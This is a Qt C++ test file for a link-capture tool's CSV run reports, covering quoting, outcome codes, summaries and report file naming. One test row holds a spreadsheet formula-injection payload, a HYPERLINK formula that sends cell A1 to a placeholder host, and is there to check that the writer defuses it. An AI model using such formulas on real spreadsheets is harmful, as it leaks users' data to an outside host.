#include <QBuffer>
#include <QDateTime>
#include <QFile>
#include <QTemporaryDir>
#include <QTest>

#include "batch/linkoutcome.h"
#include "batch/reportsummary.h"
#include "batch/runreport.h"
#include "capture/htmlsnap.h"
#include "common/csv.h"

using namespace Batch;

class TestRunReport final : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void csvRoundTrip_data();
    void csvRoundTrip();
    void outcomeOfACapture_data();
    void outcomeOfACapture();
    void summaryCountsAndDeadLinks();
    void summaryRefusesOtherFiles();
    void runsInTheSameSecondGetTheirOwnFile();
};

void TestRunReport::csvRoundTrip_data()
{
    QTest::addColumn<QStringList>("fields");
    QTest::addColumn<QByteArray>("encoded");

    const auto list = [](std::initializer_list<const char*> items) {
        QStringList out;
        for (const char* item : items)
            out.append(QString::fromUtf8(item));
        return out;
    };
    QTest::newRow("plain") << list({ "1", "17", "http://a.example/" }) << QByteArray("1,17,http://a.example/\r\n");
    QTest::newRow("empty fields") << list({ "", "x", "" }) << QByteArray(",x,\r\n");
    QTest::newRow("comma") << list({ "a,b" }) << QByteArray("\"a,b\"\r\n");
    QTest::newRow("quotes doubled") << list({ "say \"hi\"", "z" }) << QByteArray("\"say \"\"hi\"\"\",z\r\n");
    QTest::newRow("line breaks inside") << list({ "one\r\ntwo", "three\nfour", "end" })
                                        << QByteArray("\"one\r\ntwo\",\"three\nfour\",end\r\n");
    QTest::newRow("lone CR") << list({ "a\rb" }) << QByteArray("\"a\rb\"\r\n");
    QTest::newRow("UTF-8") << list({ "Café ☕" }) << QByteArray("Caf\xc3\xa9 \xe2\x98\x95\r\n");
    QTest::newRow("quote inside an unquoted-looking field") << list({ "5\" disk" }) << QByteArray("\"5\"\" disk\"\r\n");
    QTest::newRow("formula") << list({ "=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "a=b" })
                             << QByteArray("\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"click\"\")\",a=b\r\n");
    QTest::newRow("text marks") << list({ "@SUM(1)", "+1", "-1", "\tx", "\rx", "'=1", "'" })
                                << QByteArray("\"'@SUM(1)\",\"'+1\",\"'-1\",\"'\tx\",\"'\rx\",\"''=1\",\"''\"\r\n");
    // Releases before the marks wrote every field as it was, quoted only for a comma, a quote or a line break.
    QTest::newRow("earlier release, plain") << list({ "'Tis", "'", "'=1", "''" }) << QByteArray("'Tis,','=1,''\r\n");
    QTest::newRow("earlier release, quoted") << list({ "'a, b'", "x" }) << QByteArray("\"'a, b'\",x\r\n");
    // The first field alone would be taken for marked; the second shows there are no marks.
    QTest::newRow("earlier release, told by a later field")
        << list({ "'+1, or -1", "-5 degrees" }) << QByteArray("\"'+1, or -1\",-5 degrees\r\n");
}

void TestRunReport::csvRoundTrip()
{
    QFETCH(QStringList, fields);
    QFETCH(QByteArray, encoded);
    if (!QByteArray(QTest::currentDataTag()).startsWith("earlier release"))
        QCOMPARE(Common::csvRecord(fields), encoded);

    // Read back, followed by a second record to show where the first one ends.
    QByteArray twoRecords = encoded + "next,record\r\n";
    QBuffer buffer(&twoRecords);
    QVERIFY(buffer.open(QIODevice::ReadOnly));
    Common::CsvReader reader(buffer);
    QCOMPARE(reader.next().value_or(QStringList()), fields);
    QCOMPARE(reader.next().value_or(QStringList()), QStringList({ QStringLiteral("next"), QStringLiteral("record") }));
    QVERIFY(!reader.next());
}

void TestRunReport::outcomeOfACapture_data()
{
    QTest::addColumn<int>("code");
    QTest::addColumn<bool>("thumbnailMade");
    QTest::addColumn<QString>("netError");
    QTest::addColumn<QString>("outcome");
    QTest::addColumn<bool>("failure");

    QTest::newRow("captured") << 1 << true << QString() << Outcome::Captured << false;
    QTest::newRow("captured, no thumbnail") << 1 << false << QString() << Outcome::ImageFailed << true;
    QTest::newRow("refused") << -3 << false << QStringLiteral("net::ERR_CONNECTION_REFUSED") << Outcome::Refused
                             << true;
    QTest::newRow("unresolved") << -3 << false << QStringLiteral("net::ERR_NAME_NOT_RESOLVED") << Outcome::Unresolved
                                << true;
    QTest::newRow("other open failure") << -3 << false << QStringLiteral("net::ERR_CERT_DATE_INVALID")
                                        << Outcome::OpenFailed << true;
    QTest::newRow("timed out") << -4 << false << QString() << Outcome::TimedOut << true;
    QTest::newRow("blank") << -5 << false << QString() << Outcome::Blank << true;
    QTest::newRow("watchdog") << 0 << false << QString() << Outcome::Unfinished << true;
}

void TestRunReport::outcomeOfACapture()
{
    QFETCH(int, code);
    QFETCH(bool, thumbnailMade);
    QFETCH(QString, netError);
    QFETCH(QString, outcome);
    QFETCH(bool, failure);
    QCOMPARE(captureOutcome(code, thumbnailMade, netError), outcome);
    QCOMPARE(isFailure(outcome), failure);
}

void TestRunReport::summaryCountsAndDeadLinks()
{
    const auto link = [](qint32 line, const char* outcome, int status, const char* word = "") {
        LinkOutcome out;
        out.pageWord = QString::fromLatin1(word);
        out.line = line;
        out.id = QString::number(100 + line);
        out.url = QStringLiteral("http://s%1.example/a,b").arg(line);
        out.outcome = QString::fromLatin1(outcome);
        out.page.httpStatus = status;
        out.page.title = QStringLiteral("Title, \"quoted\"\nand broken");
        return out;
    };
    // In the order links end, not the database's.
    QByteArray report = Common::csvRecord(RunReport::columns());
    for (const LinkOutcome& out : { link(5, "refused", 0), link(1, "captured", 200, "ok"),
             link(3, "captured", 410, "error"), link(2, "captured", 404, "error"), link(4, "unresolved", 0),
             link(6, "skipped", 0), link(7, "captured", 503, "error") })
        report += RunReport::record(out);
    QBuffer buffer(&report);
    QVERIFY(buffer.open(QIODevice::ReadOnly));
    const Common::Result<ReportSummary> summary = summariseReport(buffer);
    QVERIFY(summary.ok());
    QCOMPARE(summary.value().links, 7);
    QCOMPARE(summary.value().outcomes.value(QStringLiteral("captured")), 4);
    QCOMPARE(summary.value().outcomes.value(QStringLiteral("refused")), 1);
    QCOMPARE(summary.value().statusClasses.value(QStringLiteral("2xx")), 1);
    QCOMPARE(summary.value().statusClasses.value(QStringLiteral("4xx")), 2);
    QCOMPARE(summary.value().statusClasses.value(QStringLiteral("5xx")), 1);
    QCOMPARE(summary.value().statusClasses.value(QStringLiteral("none")), 3);
    QCOMPARE(summary.value().pages.value(QStringLiteral("error")), 3);
    QCOMPARE(summary.value().pages.value(QStringLiteral("ok")), 1);
    QStringList errors;
    for (const ReportSummary::ListedLink& e : summary.value().pageLinks.value(QStringLiteral("error")))
        errors << e.id;
    QCOMPARE(errors, QStringList({ QStringLiteral("102"), QStringLiteral("103"), QStringLiteral("107") }));
    QStringList dead;
    for (const ReportSummary::ListedLink& d : summary.value().deadLinks)
        dead << d.id + QLatin1Char('|') + d.url;
    QCOMPARE(dead,
        QStringList({ QStringLiteral("102|http://s2.example/a,b"), QStringLiteral("103|http://s3.example/a,b"),
            QStringLiteral("104|http://s4.example/a,b"), QStringLiteral("105|http://s5.example/a,b") }));
}

void TestRunReport::summaryRefusesOtherFiles()
{
    QByteArray links("1|http://a.example/\r\n2|http://b.example/\r\n");
    QBuffer buffer(&links);
    QVERIFY(buffer.open(QIODevice::ReadOnly));
    QVERIFY(!summariseReport(buffer).ok());
}

void TestRunReport::runsInTheSameSecondGetTheirOwnFile()
{
    QTemporaryDir dir;
    const QDateTime when(QDate(2027, 1, 2), QTime(3, 4, 5));
    const QString first = RunReport::newReportPath(dir.path(), when);
    QVERIFY(first.endsWith(QStringLiteral("/run-20270102-030405.csv")));
    QFile taken(first);
    QVERIFY(taken.open(QIODevice::WriteOnly));
    taken.close();
    QVERIFY(RunReport::newReportPath(dir.path(), when).endsWith(QStringLiteral("/run-20270102-030405-2.csv")));
    QCOMPARE(latestReport(dir.path()), QFileInfo(first).absoluteFilePath());
}

QTEST_GUILESS_MAIN(TestRunReport)
#include "tst_runreport.moc"
